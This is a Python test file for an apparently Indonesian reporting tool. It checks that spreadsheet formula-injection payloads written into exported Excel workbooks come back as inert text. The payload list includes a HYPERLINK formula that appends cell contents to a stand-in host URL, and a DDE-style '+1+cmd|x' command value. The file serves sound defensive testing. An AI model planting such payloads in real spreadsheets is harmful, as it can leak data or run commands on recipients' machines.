"""What came in as text goes out as text: formula payloads are inert in the workbooks that we write ("escape on export")."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from scripts.demo_inputs import identity_for, prefill_stations

from jujur import intake
from jujur.domain.submissions import Reading
from jujur.forms.identity import Filled
from jujur.forms.workbook import write_workbook
from jujur.settings import places
from jujur.settings.desk import load_desk

DESK = load_desk(places.config_dir() / "pagar-alam")
AREA = DESK.gazetteer["16.72.05"]
DATA = Path(__file__).parents[1] / "data" / "spreadsheets"
# Those of the files, and what the spreadsheet of the manifest tries beside them.
PAYLOADS = [
    line
    for name in ("csv-payload.txt", "patt_formula_payloads.txt")
    for line in (DATA / "csv_injection" / name).read_text().splitlines()
] + [
    '=HYPERLINK("http://canary.invalid/?x="&A1,"klik")',
    "+1+cmd|x",
    "@SUM(1)",
    "-2+3",
    "{=1+1}",
    "http://canary.invalid/",
]


def test_the_payloads_are_those_of_the_manifest() -> None:
    with (DATA / "MANIFEST.csv").open(encoding="utf-8", newline="") as lines:
        asked = {line["path"] for line in csv.DictReader(lines) if "escape on export" in line["expect"]}
    assert asked == {
        "csv_injection/csv-payload.txt",
        "csv_injection/patt_formula_payloads.txt",
        "generated/id_formula_injection.xlsx",
    }
    assert len(PAYLOADS) == 23


def sheets_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def assert_inert(content: bytes, expected: set[str]) -> None:
    """Each expected text stands in a cell, as text; nothing in the file is a formula, a link or a command."""
    parts = sheets_of(content)
    for name, xml in parts.items():
        assert not re.search(rb"<(?:\w+:)?f[\s/>]", xml), name
        assert b"<hyperlink" not in xml, name
    assert not [name for name in parts if "externalLink" in name or "vba" in name]
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [
        cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)
    ]
    found = {cell.value: cell.data_type for cell in cells}
    assert {text: found.get(text) for text in expected} == dict.fromkeys(expected, "s")


def incident_workbook() -> bytes:
    form = DESK.forms["kejadian"]
    rows = [
        {"waktu_kejadian": "14 Februari 2024 pukul 07.35", "uraian": payload, "tindak_lanjut": payload}
        for payload in PAYLOADS
    ]
    return write_workbook(form, (), identity_for(DESK, AREA), Filled(rows=rows))


def test_payloads_in_the_texts_of_a_form_come_back_letter_by_letter() -> None:
    content = incident_workbook()
    assert_inert(content, set(PAYLOADS))
    (result,) = intake.read_batch([intake.FileToRead("a.xlsx", "0" * 64, content)], DESK.forms)
    assert isinstance(result, Reading)
    assert [row.text("uraian") for row in result.rows] == PAYLOADS
    assert "FORMULAS" not in {note.code for note in result.notes}


@pytest.mark.parametrize("payload", ["=1+1", "@SUM(1)", "http://canary.invalid/"])
def test_payloads_in_names_and_identity_are_inert(payload: str) -> None:
    units = [{**unit, "kelurahan": payload} for unit in prefill_stations(DESK, AREA)[:2]]
    identity = replace(identity_for(DESK, AREA), area_name=payload, desk_name=payload, due_label=payload)
    content = write_workbook(DESK.forms["pungut_hitung"], units, identity, Filled(supersedes=payload))
    assert_inert(content, {payload})
